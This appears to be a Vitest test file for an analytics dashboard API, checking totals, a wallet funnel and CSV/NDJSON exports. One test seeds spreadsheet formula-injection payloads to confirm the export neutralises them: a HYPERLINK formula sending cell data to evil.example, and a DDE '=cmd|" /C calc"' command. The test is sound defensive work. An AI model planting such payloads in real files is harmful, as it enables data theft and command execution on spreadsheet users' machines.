// The dashboard API and the exports: numbers checked against hand-computed answers and against the raw
// events, the wallet funnel of real sessions, CSV and NDJSON exports (spreadsheet-safe CSV) beyond one page.
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeEvent, postEvents } from '../helpers/events.ts';
import type { TestService } from '../helpers/service.ts';
import { appRow, create, startSiteApi } from './api-harness.ts';
import { eventually, type SiteClient } from './site-harness.ts';

let service: TestService;
let alice: SiteClient;

beforeAll(async () => {
  ({ service, alice } = await startSiteApi());
});
afterAll(() => service?.close());

// ---------------------------------------------------------------------------------------------------
// Dashboard numbers: a seeded set of events whose answers were worked out by hand.

const DAY_MS = 24 * 3600 * 1000;
/** the UTC day `daysAgo` days before today, as YYYY-MM-DD */
const dayString = (daysAgo: number) => new Date(Date.now() - daysAgo * DAY_MS).toISOString().slice(0, 10);
/** noon UTC of that day (+ seconds): never in the future, and far from midnight */
const noon = (daysAgo: number, second: number) => String(Date.parse(`${dayString(daysAgo)}T12:00:00Z`) + second * 1000);

const FULL_FUNNEL = [
  'app-init',
  'connection-started',
  'connection-completed',
  'transaction-sent-for-signature',
  'transaction-signed',
];
const TRICKY = {
  name: 'checkout',
  note: 'a, "quoted" value\nsecond line, with comma',
  empty: '',
  nested: { list: [1, 'two, "three"'] },
};
const U = [7100000001, 7100000002, 7100000003, 7100000004];
const CSV_HEADER =
  'received_at,occurred_at,event_name,session_id,user,platform,locale,start_param,is_premium,is_success,props';

/** sessions: user, day (days ago), launch dimensions and the events in order */
const SESSIONS = [
  { user: U[0], ago: 1, platform: 'ios', locale: 'en', start: 'ads', events: [...FULL_FUNNEL, 'app-hide'] },
  {
    user: U[1],
    ago: 1,
    platform: 'android',
    locale: 'ru',
    start: '',
    events: ['app-init', 'connection-started', 'connection-completed', 'custom-event'],
  },
  { user: U[0], ago: 1, platform: 'tdesktop', locale: 'en', start: 'ads', events: ['app-init', 'connection-started'] },
  {
    user: U[2],
    ago: 2,
    platform: 'ios',
    locale: 'de',
    start: 'friend',
    events: [
      'app-init',
      'connection-started',
      'connection-completed',
      'transaction-sent-for-signature',
      'transaction-signing-failed',
    ],
  },
  { user: U[1], ago: 2, platform: 'android', locale: 'ru', start: '', events: ['app-init', 'custom-event'] },
  { user: U[3], ago: 5, platform: 'weba', locale: 'en', start: 'ads', events: FULL_FUNNEL },
  // in the last 30 days only
  { user: U[0], ago: 10, platform: 'ios', locale: 'en', start: 'old', events: ['app-init', 'connection-started'] },
  // in the last 90 days only
  { user: U[3], ago: 40, platform: 'macos', locale: 'fr', start: 'older', events: ['app-init'] },
];

describe('dashboard numbers and exports', () => {
  const APP = 'numbers_app';
  const ORIGIN = 'https://numbers-app.example.com';
  let appId: number;

  beforeAll(async () => {
    const token = await create(alice, APP);
    appId = (await appRow(APP))!.id;
    const events = SESSIONS.flatMap((session, index) => {
      const sessionId = crypto.randomUUID();
      return session.events.map((name, position) =>
        makeEvent(APP, {
          event_name: name,
          session_id: sessionId,
          user_id: session.user,
          platform: session.platform,
          locale: session.locale,
          start_param: session.start,
          client_timestamp: noon(session.ago, index * 60 + position),
          ...(name === 'custom-event' ? { custom_data: { ...TRICKY, session: index } } : {}),
        }),
      );
    });
    expect(events).toHaveLength(27);
    const sent = await postEvents(service.url, events, { token, origin: ORIGIN });
    expect(sent.status, sent.text).toBe(201);
    // some cases read the events table directly before any API call (which would wait for the store)
    await service.loaded();
  });

  /** expected for the last 7 days, worked out by hand from SESSIONS */
  const WEEK = {
    totals: { events: 24, users: 4, verifiedUsers: 0, sessions: 6 },
    days: {
      [dayString(1)]: {
        users: 2,
        sessions: 3,
        events: 12,
        byName: {
          'app-init': 3,
          'connection-started': 3,
          'connection-completed': 2,
          'transaction-sent-for-signature': 1,
          'transaction-signed': 1,
          'app-hide': 1,
          'custom-event': 1,
        },
      },
      [dayString(2)]: {
        users: 2,
        sessions: 2,
        events: 7,
        byName: {
          'app-init': 2,
          'connection-started': 1,
          'connection-completed': 1,
          'transaction-sent-for-signature': 1,
          'transaction-signing-failed': 1,
          'custom-event': 1,
        },
      },
      [dayString(5)]: {
        users: 1,
        sessions: 1,
        events: 5,
        byName: {
          'app-init': 1,
          'connection-started': 1,
          'connection-completed': 1,
          'transaction-sent-for-signature': 1,
          'transaction-signed': 1,
        },
      },
    } as Record<string, { users: number; sessions: number; events: number; byName: Record<string, number> }>,
    // users within a day of their first step: U0, U1, U2 and U3 started and completed; U0, U2 and U3 sent a
    // transaction, U0 and U3 signed it
    funnel: [
      { name: 'connection-started', users: 4, events: 5, fromPrevious: null, fromFirst: null },
      { name: 'connection-completed', users: 4, events: 4, fromPrevious: 1, fromFirst: 1 },
      { name: 'transaction-sent-for-signature', users: 3, events: 3, fromPrevious: 0.75, fromFirst: 0.75 },
      { name: 'transaction-signed', users: 2, events: 2, fromPrevious: 2 / 3, fromFirst: 0.5 },
    ],
    dimensions: {
      platform: [
        { value: 'android', sessions: 2 },
        { value: 'ios', sessions: 2 },
        { value: 'tdesktop', sessions: 1 },
        { value: 'weba', sessions: 1 },
      ],
      locale: [
        { value: 'en', sessions: 3 },
        { value: 'ru', sessions: 2 },
        { value: 'de', sessions: 1 },
      ],
      start_param: [
        { value: 'ads', sessions: 3 },
        { value: '', sessions: 2 },
        { value: 'friend', sessions: 1 },
      ],
    },
    eventNames: [
      { name: 'app-init', events: 6 },
      { name: 'connection-started', events: 5 },
      { name: 'connection-completed', events: 4 },
      { name: 'transaction-sent-for-signature', events: 3 },
      { name: 'custom-event', events: 2 },
      { name: 'transaction-signed', events: 2 },
      { name: 'app-hide', events: 1 },
      { name: 'transaction-signing-failed', events: 1 },
    ],
  };

  it('matches the hand-computed answers for the last 7 days', async () => {
    const answer = await alice.get(`/api/apps/${APP}/dashboard?days=7`);
    expect(answer.status).toBe(200);
    const dashboard = answer.json;
    expect(dashboard.period).toEqual({ from: dayString(6), to: dayString(0) });
    expect(dashboard.totals).toEqual(WEEK.totals);
    expect(dashboard.days.map((day: { day: string }) => day.day)).toEqual([6, 5, 4, 3, 2, 1, 0].map(dayString));
    for (const day of dashboard.days) {
      expect(day, day.day).toEqual({
        day: day.day,
        ...(WEEK.days[day.day] ?? { users: 0, sessions: 0, events: 0, byName: {} }),
        // today is still under way
        complete: day.day !== dayString(0),
      });
    }
    expect(dashboard.funnel).toHaveLength(4);
    dashboard.funnel.forEach((step: (typeof WEEK.funnel)[number], index: number) => {
      const expected = WEEK.funnel[index]!;
      expect(step.name).toBe(expected.name);
      expect(step.users).toBe(expected.users);
      expect(step.events).toBe(expected.events);
      for (const key of ['fromPrevious', 'fromFirst'] as const) {
        if (expected[key] === null) expect(step[key]).toBeNull();
        else expect(step[key]).toBeCloseTo(expected[key]!, 10);
      }
    });
    // one answer to one question: the read API's funnel of the same steps, by user, in the same window and period
    const { key } = await service.services.readKeys.create(APP, { surface: 'cli', isAdmin: true });
    const query = `from=${dayString(6)}&to=${dayString(0)}&by=user&window=${dashboard.funnelWindow}&steps=${FULL_FUNNEL.slice(1).join(',')}`;
    const readApi = (await (
      await fetch(`${service.url}/api/v1/apps/${APP}/funnel?${query}`, { headers: { authorization: `Bearer ${key}` } })
    ).json()) as { steps: { count: number }[] };
    expect(readApi.steps.map((step) => step.count)).toEqual(
      dashboard.funnel.map((step: { users: number }) => step.users),
    );
    expect(dashboard.dimensions).toEqual(WEEK.dimensions);
    expect(dashboard.eventNames).toEqual(WEEK.eventNames);
    expect(dashboard.app).toMatchObject({ app_name: APP, events_total: 27 });
    expect(dashboard.rejections).toEqual([]);
  });

  it('widens with the period: 30 days add the older session, 90 days the oldest', async () => {
    const month = (await alice.get(`/api/apps/${APP}/dashboard?days=30`)).json;
    expect(month.days).toHaveLength(30);
    expect(month.totals).toEqual({ events: 26, users: 4, verifiedUsers: 0, sessions: 7 });
    expect(month.funnel.map((step: { events: number }) => step.events)).toEqual([6, 4, 3, 2]);
    expect(month.dimensions.platform).toEqual([
      { value: 'ios', sessions: 3 },
      { value: 'android', sessions: 2 },
      { value: 'tdesktop', sessions: 1 },
      { value: 'weba', sessions: 1 },
    ]);
    expect(month.dimensions.start_param).toContainEqual({ value: 'old', sessions: 1 });
    const quarter = (await alice.get(`/api/apps/${APP}/dashboard?days=90`)).json;
    expect(quarter.days).toHaveLength(90);
    expect(quarter.totals).toEqual({ events: 27, users: 4, verifiedUsers: 0, sessions: 8 });
    expect(quarter.dimensions.locale).toEqual([
      { value: 'en', sessions: 4 },
      { value: 'ru', sessions: 2 },
      { value: 'de', sessions: 1 },
      { value: 'fr', sessions: 1 },
    ]);
    for (const days of ['1', '365', 'abc', '']) {
      const bad = await alice.get(`/api/apps/${APP}/dashboard?days=${days}`);
      expect(bad.status, days).toBe(400);
      expect(bad.json).toEqual({ message: 'days must be 7, 30 or 90', field: 'days' });
    }
  });

  it('equals a direct count over the raw events for every period', async () => {
    const sql = service.store.sql;
    for (const days of [7, 30, 90]) {
      const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
      const args = [appId, dashboard.period.from, dashboard.period.to];
      const where = 'app_id = $1 AND day BETWEEN $2::date AND $3::date';
      const [totals] = await sql.query<{ events: number; users: number }>(
        `SELECT count(*)::int AS events, count(DISTINCT user_key)::int AS users FROM events WHERE ${where}`,
        args,
      );
      const perDay = await sql.query<{ day: string; users: number; sessions: number; events: number }>(
        `SELECT day::text, count(DISTINCT user_key)::int AS users, count(DISTINCT session_id)::int AS sessions, count(*)::int AS events
         FROM events WHERE ${where} GROUP BY day`,
        args,
      );
      const perName = await sql.query<{ day: string; event_name: string; events: number }>(
        `SELECT day::text, event_name, count(*)::int AS events FROM events WHERE ${where} GROUP BY 1, 2`,
        args,
      );
      const dimensions = await sql.query<{ dimension: string; value: string; sessions: number }>(
        `SELECT d.dimension, d.value, count(*)::int AS sessions
         FROM (SELECT DISTINCT ON (day, session_id) day, session_id, platform, locale, start_param FROM events WHERE ${where} ORDER BY day, session_id, received_at) s
         CROSS JOIN LATERAL (VALUES ('platform', coalesce(s.platform, '')), ('locale', coalesce(s.locale, '')), ('start_param', coalesce(s.start_param, ''))) AS d(dimension, value)
         GROUP BY 1, 2`,
        args,
      );
      const raw = new Map(perDay.map((row) => [row.day, row]));
      expect(dashboard.totals, `${days} days`).toEqual({
        events: totals!.events,
        users: totals!.users,
        verifiedUsers: 0,
        sessions: perDay.reduce((sum, row) => sum + row.sessions, 0),
      });
      for (const day of dashboard.days) {
        const row = raw.get(day.day) ?? { users: 0, sessions: 0, events: 0 };
        expect({ users: day.users, sessions: day.sessions, events: day.events }, day.day).toEqual({
          users: row.users,
          sessions: row.sessions,
          events: row.events,
        });
        const names = Object.fromEntries(
          perName.filter((entry) => entry.day === day.day).map((entry) => [entry.event_name, entry.events]),
        );
        expect(day.byName, day.day).toEqual(names);
      }
      const funnelSql = [
        'connection-started',
        'connection-completed',
        'transaction-sent-for-signature',
        'transaction-signed',
      ].map((name) =>
        perName.filter((entry) => entry.event_name === name).reduce((sum, entry) => sum + entry.events, 0),
      );
      // in this data set every session has each step at most once: counted as events or as sessions, the same
      const funnelSessions = await sql.query<{ event_name: string; sessions: number }>(
        `SELECT event_name, count(DISTINCT (day, session_id))::int AS sessions FROM events WHERE ${where} GROUP BY 1`,
        args,
      );
      expect(funnelSql).toEqual(
        ['connection-started', 'connection-completed', 'transaction-sent-for-signature', 'transaction-signed'].map(
          (name) => funnelSessions.find((row) => row.event_name === name)?.sessions ?? 0,
        ),
      );
      expect(dashboard.funnel.map((step: { events: number }) => step.events)).toEqual(funnelSql);
      for (const dimension of ['platform', 'locale', 'start_param']) {
        const expected = dimensions
          .filter((row) => row.dimension === dimension)
          .map(({ value, sessions }) => ({ value, sessions }))
          .sort((a, b) => b.sessions - a.sessions || (a.value < b.value ? -1 : 1));
        expect(dashboard.dimensions[dimension], `${dimension}, ${days} days`).toEqual(expected);
      }
    }
  });

  it('shows the recent events (no user key) and the recent rejections with their reason', async () => {
    const recent = (await alice.get(`/api/apps/${APP}/recent`)).json;
    expect(recent).toHaveLength(25);
    expect(Object.keys(recent[0]).sort()).toEqual([
      'eventName',
      'isPremium',
      'isSuccess',
      'locale',
      'occurredAt',
      'platform',
      'props',
      'receivedAt',
      'sessionId',
      'startParam',
    ]);
    expect(JSON.stringify(recent)).not.toMatch(/71000000\d\d/);
    // latest received first; among the events of one request, the latest to happen first
    const order = (event: { receivedAt: string; occurredAt: string }) => `${event.receivedAt} ${event.occurredAt}`;
    expect(recent.map(order)).toEqual(recent.map(order).sort().reverse());

    // a refused request, on an app of its own so the other cards' apps keep no rejection
    const REFUSED_APP = 'refused_app';
    const refusedToken = await create(alice, REFUSED_APP);
    const wrongOrigin = await postEvents(service.url, makeEvent(REFUSED_APP), {
      token: refusedToken,
      origin: 'https://copycat.example',
    });
    expect(wrongOrigin.status).toBe(403);
    const dashboard = (await alice.get(`/api/apps/${REFUSED_APP}/dashboard?days=7`)).json;
    expect(dashboard.rejections).toEqual([
      expect.objectContaining({
        status: 403,
        message: 'The domain name does not match.',
        origin: 'https://copycat.example',
        count: 1,
      }),
    ]);
    expect(dashboard.app.last_rejection).toMatchObject({ status: 403, origin: 'https://copycat.example' });
    // the refused request stored nothing
    expect(dashboard.totals.events).toBe(0);
  });

  /** RFC 4180: quoted fields may hold commas, doubled quotes and line breaks */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let field = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
        else if (c === '"') quoted = false;
        else field += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') row.push(field), (field = '');
      else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
      else if (c !== '\r') field += c;
    }
    expect(quoted).toBe(false);
    if (field !== '' || row.length > 0) row.push(field), rows.push(row);
    return rows;
  }

  it("exports exactly the period's events as CSV, with quoting that survives commas, quotes and newlines", async () => {
    const userKeys = new Map(
      (
        await service.store.sql.query<{ key: string; day: string; session_id: string }>(
          `SELECT encode(user_key, 'hex') AS key, day::text, session_id::text FROM events WHERE app_id = $1`,
          [appId],
        )
      ).map((row) => [row.session_id, row.key]),
    );
    for (const days of [7, 30, 90]) {
      const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
      const answer = await alice.get(`/api/apps/${APP}/export.csv?days=${days}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(answer.headers.get('content-disposition')).toBe(
        `attachment; filename="${APP}-${dashboard.period.from}-${dashboard.period.to}.csv"`,
      );
      for (const id of U) expect(answer.text).not.toContain(String(id));
      const [header, ...rows] = parseCsv(answer.text);
      expect(header).toEqual([
        'received_at',
        'occurred_at',
        'event_name',
        'session_id',
        'user',
        'platform',
        'locale',
        'start_param',
        'is_premium',
        'is_success',
        'props',
      ]);
      expect(rows, `${days} days`).toHaveLength(dashboard.totals.events);
      for (const row of rows) {
        expect(row).toHaveLength(header!.length);
        const record = Object.fromEntries(header!.map((column, index) => [column, row[index]!]));
        expect(
          record.occurred_at!.slice(0, 10) >= dashboard.period.from &&
            record.occurred_at!.slice(0, 10) <= dashboard.period.to,
        ).toBe(true);
        expect(record.user).toMatch(/^[0-9a-f]{32}$/);
        expect(record.user).toBe(userKeys.get(record.session_id!));
      }
      const custom = rows.filter((row) => row[2] === 'custom-event').map((row) => JSON.parse(row[10]!));
      expect(custom).toEqual(
        expect.arrayContaining([
          { custom_data: { ...TRICKY, session: 1 } },
          { custom_data: { ...TRICKY, session: 4 } },
        ]),
      );
      const counts: Record<string, number> = {};
      for (const row of rows) counts[row[2]!] = (counts[row[2]!] ?? 0) + 1;
      expect(
        Object.entries(counts)
          .map(([name, events]) => ({ name, events }))
          .sort((a, b) => b.events - a.events || a.name.localeCompare(b.name)),
      ).toEqual(dashboard.eventNames);
    }
  });

  it("exports exactly the period's events as NDJSON", async () => {
    for (const days of [7, 30, 90]) {
      const dashboard = (await alice.get(`/api/apps/${APP}/dashboard?days=${days}`)).json;
      const answer = await alice.get(`/api/apps/${APP}/export.ndjson?days=${days}`);
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      for (const id of U) expect(answer.text).not.toContain(String(id));
      expect(answer.text.endsWith('\n')).toBe(true);
      const records = answer.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(records, `${days} days`).toHaveLength(dashboard.totals.events);
      expect(Object.keys(records[0]).sort()).toEqual([
        'event_name',
        'is_premium',
        'is_success',
        'locale',
        'occurred_at',
        'platform',
        'props',
        'received_at',
        'session_id',
        'start_param',
        'user',
      ]);
      expect(new Set(records.map((record) => record.user)).size).toBe(dashboard.totals.users);
      expect(
        records.filter((record) => record.event_name === 'custom-event').map((record) => record.props.custom_data.note),
      ).toEqual([TRICKY.note, TRICKY.note]);
    }
    expect((await alice.get(`/api/apps/${APP}/export.xml?days=7`)).status).toBe(404);
    expect((await alice.get(`/api/apps/${APP}/export.csv?days=12`)).status).toBe(400);
  });

  it('exports CSV no spreadsheet can run: every text cell quoted, no formula after any separator', async () => {
    const token = await create(alice, 'csv_formula');
    const hostile = 'x;=HYPERLINK("https://evil.example/?"&A1;"open");+1|@SUM(1)\t-2,=3';
    const events = [
      makeEvent('csv_formula', {
        platform: '=cmd|" /C calc"!A0',
        locale: 'en;=1+1',
        start_param: '@import',
        custom_data: { note: hostile, list: ['a;-1+2', 'b|=3'], n: -5 },
      }),
      makeEvent('csv_formula', { platform: 'ios', custom_data: { note: 'plain' } }),
      // a line break inside a quoted cell: a spreadsheet that splits lines first starts a cell after it
      makeEvent('csv_formula', { platform: 'web', locale: 'en\r\n+1', start_param: 'line one\n=1+1' }),
    ];
    const posted = await postEvents(service.url, events, { token, origin: 'https://csv-formula.example.com' });
    expect(posted.status, posted.text).toBe(201);
    const answer = await eventually(async () => {
      const csv = await alice.get('/api/apps/csv_formula/export.csv?days=7');
      return parseCsv(csv.text).length === 4 ? csv : undefined;
    }, 'the three events in the export');
    const [header, ...lines] = answer.text.trimEnd().split('\n');
    expect(header).toBe(CSV_HEADER);
    // what a spreadsheet sees when it splits on any of these, with or without honouring quotes
    for (const separator of [',', ';', '\t', '|', '\r']) {
      for (const line of lines) {
        for (const piece of line!.split(separator)) {
          expect(piece.replace(/^"/, ''), `split on ${JSON.stringify(separator)}: ${piece}`).not.toMatch(
            /^[=+\-@\t\r]/,
          );
        }
      }
    }
    const rows = parseCsv(answer.text).slice(1);
    for (const row of rows) {
      expect(row).toHaveLength(11);
      for (const [index, cell] of row.entries())
        if (![8, 9].includes(index)) expect(lines.join('\n')).toContain(`"${cell.replace(/"/g, '""')}"`);
    }
    const record = rows.find((row) => row[10]!.includes('HYPERLINK'))!;
    // the props stay the exact JSON of what was sent
    expect(JSON.parse(record[10]!)).toEqual({ custom_data: events[0]!.custom_data });
    // text cells are kept readable: a quote mark before each formula start
    expect(record[5]).toBe(`'=cmd|" /C calc"!A0`);
    expect(record[6]).toBe(`en;'=1+1`);
    expect(record[7]).toBe(`'@import`);
    const broken = rows.find((row) => row[5] === 'web')!;
    expect(broken[6]).toBe(`en\r\n'+1`);
    expect(broken[7]).toBe(`line one\n'=1+1`);
  });

  it('narrows every card to a filter, and the site, the read API and the CSV export agree on the numbers', async () => {
    const android = (await alice.get(`/api/apps/${APP}/dashboard?days=7&platform=android`)).json;
    // U[1]'s two Android sessions: four events yesterday, two the day before
    expect(android.totals).toEqual({ events: 6, users: 1, verifiedUsers: 0, sessions: 2 });
    const busy = android.days.find((day: { day: string }) => day.day === dayString(1));
    expect(busy).toEqual({
      day: dayString(1),
      users: 1,
      sessions: 1,
      events: 4,
      byName: { 'app-init': 1, 'connection-started': 1, 'connection-completed': 1, 'custom-event': 1 },
      complete: true,
    });
    expect(android.funnel.map((step: { users: number }) => step.users)).toEqual([1, 1, 0, 0]);
    expect(android.dimensions).toEqual({
      platform: [{ value: 'android', sessions: 2 }],
      locale: [{ value: 'ru', sessions: 2 }],
      start_param: [{ value: '', sessions: 2 }],
    });
    // the filtered views, read from the events, add up to the unfiltered one, read from the rollups
    const platforms = await Promise.all(
      ['ios', 'android', 'tdesktop', 'weba'].map(
        async (platform) => (await alice.get(`/api/apps/${APP}/dashboard?days=7&platform=${platform}`)).json,
      ),
    );
    for (const key of ['events', 'sessions'] as const)
      expect(
        platforms.reduce((sum, view) => sum + view.totals[key], 0),
        key,
      ).toBe(WEEK.totals[key]);

    const view = `days=7&platform=android`;
    const insights = (await alice.get(`/api/apps/${APP}/insights?${view}`)).json;
    expect(insights.summary).toEqual({ events: 6, users: 1, verified_users: 0, sessions: 2, new_users: 1 });
    const { key } = await service.services.readKeys.create(APP, { surface: 'cli', isAdmin: true });
    const api = await fetch(
      `${service.url}/api/v1/apps/${APP}/summary?from=${android.period.from}&to=${android.period.to}&platform=android`,
      { headers: { authorization: `Bearer ${key}` } },
    );
    expect(await api.json()).toEqual({ period: android.period, ...insights.summary });
    const [, ...rows] = parseCsv((await alice.get(`/api/apps/${APP}/export.csv?${view}`)).text);
    expect(rows).toHaveLength(6);
    expect(new Set(rows.map((row) => row[5]))).toEqual(new Set(['android']));
    expect(new Set(rows.map((row) => row[3])).size).toBe(2);

    const recent = (await alice.get(`/api/apps/${APP}/recent?${view}`)).json as { platform: string }[];
    expect(recent.map((event) => event.platform)).toEqual(new Array(6).fill('android'));

    const bad = await alice.get(`/api/apps/${APP}/dashboard?days=7&premium=maybe`);
    expect(bad.status).toBe(400);
    expect(bad.json.message).toBe('The query parameter "premium" must be "true" or "false".');
  });

  it('exports a header only for an app without events in the period', async () => {
    await create(alice, 'quiet_app');
    const csv = await alice.get('/api/apps/quiet_app/export.csv?days=7');
    expect(csv.status).toBe(200);
    expect(csv.text).toBe(`${CSV_HEADER}\n`);
    const ndjson = await alice.get('/api/apps/quiet_app/export.ndjson?days=7');
    expect(ndjson.status).toBe(200);
    expect(ndjson.text).toBe('');
  });
});

describe('wallet funnel of real sessions', () => {
  it('never shows a step above the one before it, nor a conversion above 100%', async () => {
    // what wallets really do: connect once and send several transactions; or restore yesterday's
    // connection (no connection-started/completed today) and send one
    const token = await create(alice, 'funnel_app');
    const twice = crypto.randomUUID();
    const restored = crypto.randomUUID();
    const steps = (session: string, user: number, names: string[]) =>
      names.map((event_name, index) =>
        makeEvent('funnel_app', {
          event_name,
          session_id: session,
          user_id: user,
          client_timestamp: noon(1, index),
          custom_data: { index },
        }),
      );
    const events = [
      ...steps(twice, 7300000001, [
        'app-init',
        'connection-started',
        'connection-completed',
        'transaction-sent-for-signature',
        'transaction-signed',
        'transaction-sent-for-signature',
        'transaction-signed',
        'transaction-sent-for-signature',
        'transaction-signed',
      ]),
      ...steps(restored, 7300000002, [
        'app-init',
        'connection-restoring-completed',
        'transaction-sent-for-signature',
        'transaction-signed',
      ]),
    ];
    expect((await postEvents(service.url, events, { token, origin: 'https://funnel-app.example.com' })).status).toBe(
      201,
    );
    const { funnel } = (await alice.get('/api/apps/funnel_app/dashboard?days=7')).json as {
      funnel: { name: string; users: number; fromPrevious: number | null; fromFirst: number | null }[];
    };
    const shown = funnel
      .map((step) => `${step.name} ${step.users} (${step.fromPrevious}, ${step.fromFirst})`)
      .join('; ');
    funnel.forEach((step, index) => {
      if (index > 0) expect(step.users, shown).toBeLessThanOrEqual(funnel[index - 1]!.users);
      for (const rate of [step.fromPrevious, step.fromFirst])
        if (rate !== null) expect(rate, shown).toBeLessThanOrEqual(1);
    });
    // only the first user took the steps in order; the restored one never started a connection here
    expect(funnel.map((step) => step.users)).toEqual([1, 1, 1, 1]);
  });
});

describe('dashboard and exports beyond one page of data', () => {
  it("keeps every dimension's top values when another dimension has hundreds of values", async () => {
    // 320 sessions, each from its own campaign link; all but one on iOS, one on the web
    const token = await create(alice, 'campaigns_app');
    const events = Array.from({ length: 320 }, (_, index) =>
      makeEvent('campaigns_app', {
        user_id: 8100000000 + index,
        platform: index === 319 ? 'weba' : 'ios',
        locale: 'en',
        start_param: `campaign_${String(index).padStart(3, '0')}`,
        client_timestamp: noon(1, index),
      }),
    );
    for (let start = 0; start < events.length; start += 100) {
      const sent = await postEvents(service.url, events.slice(start, start + 100), {
        token,
        origin: 'https://campaigns-app.example.com',
      });
      expect(sent.status, sent.text).toBe(201);
    }
    const dashboard = (await alice.get('/api/apps/campaigns_app/dashboard?days=7')).json;
    expect(dashboard.totals).toEqual({ events: 320, users: 320, verifiedUsers: 0, sessions: 320 });
    expect(dashboard.dimensions.locale).toEqual([{ value: 'en', sessions: 320 }]);
    expect(dashboard.dimensions.start_param).toEqual(
      Array.from({ length: 20 }, (_, index) => ({ value: `campaign_${String(index).padStart(3, '0')}`, sessions: 1 })),
    );
    expect(dashboard.dimensions.platform).toEqual([
      { value: 'ios', sessions: 319 },
      { value: 'weba', sessions: 1 },
    ]);
  });

  it('exports every event of a period larger than one export page (5,000 rows), each once', async () => {
    const token = await create(alice, 'volume_app');
    const total = 5_250;
    const batches = Array.from({ length: total / 50 }, (_, batch) =>
      Array.from({ length: 50 }, (_, index) =>
        makeEvent('volume_app', { user_id: 9100000000 + (batch % 7), custom_data: { n: batch * 50 + index } }),
      ),
    );
    // parallel requests: the group-commit writer stores many with the same received_at, so the export's
    // cursor has to page through ties
    for (let start = 0; start < batches.length; start += 15) {
      const answers = await Promise.all(
        batches
          .slice(start, start + 15)
          .map((body) => postEvents(service.url, body, { token, origin: 'https://volume-app.example.com' })),
      );
      expect(answers.map((answer) => answer.status)).toEqual(answers.map(() => 201));
    }
    const dashboard = (await alice.get('/api/apps/volume_app/dashboard?days=7')).json;
    expect(dashboard.totals.events).toBe(total);
    const ndjson = await alice.get('/api/apps/volume_app/export.ndjson?days=7');
    const numbers = ndjson.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line).props.custom_data.n as number);
    expect(numbers).toHaveLength(total);
    expect(new Set(numbers).size).toBe(total);
    const csv = await alice.get('/api/apps/volume_app/export.csv?days=7');
    expect(csv.text.trimEnd().split('\n')).toHaveLength(total + 1);
  });
});
